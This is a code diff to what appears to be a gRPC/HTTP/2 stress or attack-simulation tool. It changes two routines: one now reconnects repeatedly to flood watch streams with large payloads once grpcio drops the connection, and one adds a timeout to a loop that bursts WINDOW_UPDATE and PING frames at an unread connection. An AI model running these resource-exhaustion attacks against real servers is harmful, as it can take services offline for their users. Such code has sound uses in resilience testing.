@@ -583,9 +583,11 @@ async def _tiny(target: Target) -> str:
     """
     payload = grpc_message(b"") * (1_000_000 // len(grpc_message(b"")))
 
-    async def watch(_: int) -> int:
+    port = int(target.picker.rpartition(":")[2])
+
+    async def on_one_connection() -> int:
         sent = 0
-        connection = await RawConnection.open(int(target.picker.rpartition(":")[2]), WATCH)
+        connection = await RawConnection.open(port, WATCH)
         while target.goes_on and not connection.closed:
             (stream,) = connection.open_streams(1)
             # As much as its first window; a watch does not end by itself.
@@ -600,6 +602,13 @@ async def _tiny(target: Target) -> str:
                 break
             sent += len(part) // 5
         await connection.close()
+        return sent
+
+    async def watch(_: int) -> int:
+        sent = 0
+        # The transport grpcio closes such a connection soon; an attacker comes again.
+        while target.goes_on:
+            sent += await on_one_connection()
         return sent
 
     target.done = await _several(CONNECTIONS, watch)
@@ -617,11 +626,14 @@ async def _windows(target: Target) -> str:
         connection.send_open(stream, (gw.headers(), gw.body(PROMPT)))
     frames = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) + frame(PING, 0, 0, bytes(8))
     sent = 0
+    ends_s = asyncio.get_running_loop().time() + target.until_s - time.monotonic()
     while target.goes_on and not connection.closed:
         connection.write(frames * 100)
         sent += 200
-        with contextlib.suppress(ConnectionError):
-            await connection.flushed()
+        # The transport grpcio reads no more of such a connection, so the frames may never leave.
+        with contextlib.suppress(ConnectionError, TimeoutError):
+            async with asyncio.timeout_at(ends_s):
+                await connection.flushed()
         await asyncio.sleep(0)
     unanswered = ZERO_WINDOWS - len(connection.answered)
     await connection.close()
